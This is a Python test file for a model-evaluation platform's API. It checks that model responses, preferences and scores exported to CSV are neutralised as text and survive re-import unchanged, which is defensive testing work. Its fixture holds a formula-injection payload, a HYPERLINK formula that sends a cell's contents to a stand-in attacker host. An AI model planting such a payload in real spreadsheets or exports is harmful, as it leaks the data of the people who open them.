"""What a model wrote is no formula in the CSV files of people, and comes back from them as it was."""

import csv
import io
import shutil

import pytest
from pydantic import SecretStr
from served_api import TOKEN, Caller, ask, bearer, exchange, served, wait_for
from trained_run import NAMES, STAGE, finish_tables, rollout, write_run, write_shard, write_table

from rubricworks.platform_api.settings import ApiSettings

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"a star")'
LABELS, PREFERENCES = f"stages/{STAGE}/labels", "preferences"
SCORE = {"sample_id": "a", "scorer": "rouge", "version": "1", "part": "all", "decoding": "greedy", "value": -0.5}


@pytest.fixture(scope="module")
def caller(tmp_path_factory):
    folder = tmp_path_factory.mktemp("runs")
    run = write_run(folder)
    shutil.rmtree(run / STAGE / "rollouts")
    shutil.rmtree(run / STAGE / "scorecards")
    write_shard(run, 0, [rollout(1, "a", text, [1.0, 1.0, 0.0]) for text in (FORMULA, "a star", "- a star")])
    finish_tables(run)
    models = (FORMULA, "@policy")
    answers = [{"sample_id": "a", "model": model, "decoding": "greedy", "response": "a star"} for model in models]
    write_table(run / "score" / "responses", "responses", answers)
    write_table(run / "score", "scores", [SCORE | {"model": model, "reason": FORMULA} for model in models])
    with served(ApiSettings(storage=str(folder), token=SecretStr(TOKEN), index_seconds=0.05)) as url:
        caller = Caller(url)
        groups = f"runs/today-1/stages/{STAGE}/groups"
        wait_for(lambda: caller.get(groups).get("items") and "models" in caller.get("runs/today-1/preferences/models"))
        yield caller


def rows(caller, place):
    text = exchange(f"{caller.url}/{place}", **bearer())[2].decode()
    return list(csv.reader(io.StringIO(text)))[1:]


@pytest.mark.parametrize(
    ("place", "sent"),
    [
        (LABELS, {"step": 1, "sample_id": "a", "response": FORMULA, "credits": {NAMES[0]: 1.0}}),
        (LABELS, {"step": 1, "sample_id": "a", "response": "- a star", "credits": {NAMES[0]: 0.0}}),
        (PREFERENCES, {"first": FORMULA, "second": "@policy", "sample_id": "a", "choice": "first"}),
    ],
)
def test_what_people_said_of_a_formula_goes_out_as_text_and_comes_in_again(caller, place, sent):
    place = f"runs/today-1/{place}"
    assert caller.post("runner", place, sent)[0] == 201
    before, stored = rows(caller, f"{place}/csv"), caller.get(place)["items"]
    assert [cell for row in before for cell in row if cell.startswith(("=", "@", "- "))] == []
    text = exchange(f"{caller.url}/{place}/csv", **bearer())[2]
    key = {"Content-Type": "text/csv", "Idempotency-Key": f"again-{len(before)}-{len(place)}"}
    assert ask(f"{caller.url}/{place}/csv", method="POST", body=text, **key, **bearer())[1] == {"stored": len(before)}
    assert rows(caller, f"{place}/csv") == before
    texts = [{name: item[name] for name in ("response", "first", "second") if name in item} for item in stored]
    assert [{name: item[name] for name in texts[0]} for item in caller.get(place)["items"]] == texts


@pytest.mark.parametrize("place", ["runs/today-1/stages/score/scores/csv", "leaderboard/csv?run=today-1"])
def test_formula_is_text_and_a_negative_figure_is_a_number(caller, place):
    cells = [cell for row in rows(caller, place) for cell in row]
    assert f"'{FORMULA}" in cells
    assert "-0.5" in cells
    assert [cell for cell in cells if cell.startswith(("=", "@"))] == []
